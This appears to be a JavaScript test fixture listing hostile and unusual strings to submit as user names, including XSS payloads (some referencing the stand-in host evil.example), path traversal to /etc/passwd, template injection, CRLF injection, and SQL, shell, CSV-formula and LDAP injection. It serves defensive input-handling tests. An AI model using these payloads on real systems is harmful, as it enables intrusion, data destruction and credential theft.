// What people who mean harm, and people who do not, may type as a name. Each is valid as one: at most 200 characters, none of them a
// control character. Markup in them would make an element named `x-injected`, a script of ours would set `injected`.

const run = 'injected=1'

export const MARKUP = [
  '<x-injected>',
  `<script>${run}</script>`,
  `<script src=//evil.example></script>`,
  `"><x-injected>`,
  `'><x-injected>`,
  `"><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `'><svg/onload=${run}>`,
  `" onmouseover="${run}`,
  `' onmouseover='${run}`,
  `" autofocus onfocus="${run}`,
  `" style="display:none`,
  `x onfocus=${run} autofocus`,
  `</textarea><x-injected>`,
  `</title><x-injected>`,
  `</style><x-injected>`,
  `</script><script>${run}</script>`,
  `</option></select><x-injected>`,
  `</td></tr></table><x-injected>`,
  `--><x-injected>`,
  `<!--`,
  `<![CDATA[<x-injected>]]>`,
  `]]><x-injected>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<object data=javascript:${run}>`,
  `<embed src=javascript:${run}>`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<form action=//evil.example><button>`,
  `<math><mtext><x-injected>`,
  `<details open ontoggle=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `<template><x-injected></template>`,
  `<noscript><p title="</noscript><x-injected>">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<scr<script>ipt>${run}</script>`,
  `<x-injected`,
]

export const REFERENCES = ['javascript:injected=1', 'data:text/html,<x-injected>', '//evil.example', '../../etc/passwd', 'file:///etc/passwd']

export const TEMPLATES = ['{{7*7}}', '{{ self }}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% raw %}', '{{constructor.constructor("injected=1")()}}', '%s%s%n', '$CLIENT_SECRET']

export const ENCODED = [
  '&lt;x-injected&gt;',
  '&#x3C;x-injected&#x3E;',
  '%3Cx-injected%3E',
  '\\u003cx-injected\\u003e',
  '\\x3cx-injected\\x3e',
  '＜x-injected＞',
  '&amp;amp;',
  '%0d%0aSet-Cookie:%20a=b',
  '%00',
  '+ADw-x-injected+AD4-',
]

export const COMMANDS = [`'; DROP TABLE clients; --`, `1' OR '1'='1`, '`touch /tmp/injected`', '$(touch /tmp/injected)', '| cat /etc/passwd', `=cmd|'/c calc'!A1`, '@SUM(1+1)', '*)(uid=*))(|(uid=*', `\\"; echo "`]

export const SCRIPTS = [
  '\u{202e}gnp.exe\u{202c}',
  '\u{200f}السلام عليكم\u{200f}',
  'שלום עולם abc',
  '한국어 日本語 中文',
  'Zalgo t̴̡e̵̢x̶̣t̷̤',
  '👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇳',
  'ﬀ İ ı ß ſ K',
  'a\u{feff}b\u{200b}c\u{2060}d',
  'null',
  'undefined',
  '[object Object]',
  'NaN',
  '0',
  'W'.repeat(200),
  '👍'.repeat(100),
  '‮'.repeat(3) + 'x'.repeat(190),
]

export const NAMES = [...MARKUP, ...REFERENCES, ...TEMPLATES, ...ENCODED, ...COMMANDS, ...SCRIPTS]
